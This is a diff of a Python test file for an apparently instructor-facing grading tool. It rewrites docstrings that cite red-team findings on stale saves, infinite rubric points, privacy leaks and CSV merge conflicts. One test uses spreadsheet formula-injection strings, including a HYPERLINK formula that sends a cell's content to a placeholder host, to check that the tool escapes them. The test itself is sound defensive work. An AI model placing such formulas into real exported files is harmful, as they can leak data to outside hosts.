@@ -258,7 +258,7 @@ def test_the_database_is_one_sqlite_file_in_wal_mode(tmp_path):
 
 
 def test_a_regrade_that_moves_the_rows_refuses_a_save_or_card_of_the_old_position(tmp_path):
-    """Red team 2 F01: a late submission graded while the page is open shifts the positions; a save
+    """A late submission graded while the page is open shifts the positions; a save
     made from the page as it was is refused (409, "press r"), never given to the row now at its place."""
     out = graded(tmp_path)
     c = client(out)
@@ -285,7 +285,7 @@ def test_a_regrade_that_moves_the_rows_refuses_a_save_or_card_of_the_old_positio
 
 
 def test_hand_grades_over_a_lowered_maximum_are_listed_never_given_back_or_exported(tmp_path):
-    """Red team 2 F09: q4 lowered from 1 to 0.5 point and the class re-graded: a typed 1 is listed
+    """q4 lowered from 1 to 0.5 point and the class re-graded: a typed 1 is listed
     as not applied (kept in the ledger), not in grades.csv; a rubric's sum is clamped to the new
     maximum; the running course mark checks typed points against the new maximum."""
     import dataclasses
@@ -316,8 +316,8 @@ def test_hand_grades_over_a_lowered_maximum_are_listed_never_given_back_or_expor
 
 
 def test_a_rubric_item_of_infinite_points_is_refused_and_never_full_marks(tmp_path):
-    """Red team 2 F07: `1e400`, `inf` or `nan` typed as a new item's points were saved (Infinity: the
-    page could not read the question any more; +inf and -inf summed to NaN, clamped to full marks)."""
+    """`1e400`, `inf` or `nan` typed as a new item's points are refused: saved, Infinity would leave
+    the page unable to read the question, and +inf and -inf sum to NaN, clamped to full marks."""
     out = graded(tmp_path)
     c = client(out)
     for bad in ("1e400", "inf", "nan", "-Infinity"):
@@ -343,8 +343,8 @@ def test_a_rubric_item_of_infinite_points_is_refused_and_never_full_marks(tmp_pa
 
 
 def test_a_refused_save_does_not_say_whose_answer_it_is(tmp_path):
-    """Red team 2 F08: a 409 returned the ledger's history as stored (key and file: the student's
-    name on Canvas); an anonymous page gets who changed it and when, nothing more."""
+    """A 409 does not return the ledger's history as stored (key and file: the student's name on
+    Canvas); an anonymous page gets who changed it and when, nothing more."""
     out = graded(tmp_path)
     ana, ben = client(out, "tok-ana"), client(out, "tok-ben")
     assert save(ana, 0, {"version": 0, "comment": "first"}).status_code == 200
@@ -371,7 +371,7 @@ def _csv_of(out: Path, path: Path, points: dict[str, str], comments: dict[str, s
 
 
 def test_a_csv_merged_again_does_not_write_over_a_grade_given_since_in_the_browser(tmp_path):
-    """Red team 2 F02: ben merges his CSV, ana grades one answer 0 in the browser, ben merges his
+    """ben merges his CSV, ana grades one answer 0 in the browser, ben merges his
     CSV again with a typo fixed in another row: ana's 0 is refused (listed, exit 1, nothing
     changed), ben's own fix is no conflict, and --force writes over it."""
     out = graded(tmp_path)
@@ -397,7 +397,7 @@ def test_a_csv_merged_again_does_not_write_over_a_grade_given_since_in_the_brows
 
 
 def test_a_stale_csv_row_does_not_grade_a_reupload_nobody_read(tmp_path, capsys):
-    """Red team 2 F02b: plain names (alice.ipynb); Alice re-uploads after her q4 was graded. The TA's
+    """Plain names (alice.ipynb); Alice re-uploads after her q4 was graded. The TA's
     old CSV merged again (for Bob's comment) does not grade her new notebook."""
     out = graded(tmp_path)
     ta = _csv_of(out, tmp_path / "ta.csv", {f: "1" for f in FILES})
@@ -416,9 +416,9 @@ def test_a_stale_csv_row_does_not_grade_a_reupload_nobody_read(tmp_path, capsys)
 
 def test_a_merge_whose_file_cannot_be_renamed_keeps_the_ledger_and_names_the_stale_files(
         tmp_path, monkeypatch, capsys):
-    """Red team 2 F14: a rename that fails half-way (canvas_import.csv held by another program) left
-    grades.csv merged and the ledger rolled back, saying "nothing was changed"; the grades then
-    vanished at the next re-grade. The ledger is committed first; the message names what is stale."""
+    """A rename that fails half-way (canvas_import.csv held by another program) must not leave
+    grades.csv merged and the ledger rolled back under "nothing was changed" (the grades would
+    vanish at the next re-grade). The ledger is committed first; the message names what is stale."""
     import os
 
     from instructor.mark import main as mark_main
@@ -450,7 +450,7 @@ def test_a_merge_whose_file_cannot_be_renamed_keeps_the_ledger_and_names_the_sta
 
 
 def test_rubric_stats_csv_runs_no_formula_a_rubric_item_holds(tmp_path):
-    """Red team 2 F03 (its rubric_stats.csv part): an item's text went into the CSV raw."""
+    """An item's text goes into rubric_stats.csv escaped, never raw."""
     out = graded(tmp_path)
     c = client(out)
     for text in ('=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1 plot", "'quoted"):
@@ -464,9 +464,9 @@ def test_rubric_stats_csv_runs_no_formula_a_rubric_item_holds(tmp_path):
 
 
 def test_course_mark_keeps_serving_while_a_regrade_has_removed_grades_csv(tmp_path):
-    """A re-grade removes grades.csv and questions.json before it writes them again (red team 2
-    F11): the server answered 500 meanwhile; it serves the last state it read, and checks typed
-    points against the points it last read."""
+    """A re-grade removes grades.csv and questions.json before it writes them again: meanwhile
+    the server serves the last state it read (not a 500), and checks typed points against the points
+    it last read."""
     out = graded(tmp_path)
     c = client(out)
     before = c.get("/api/q/q4").get_json()
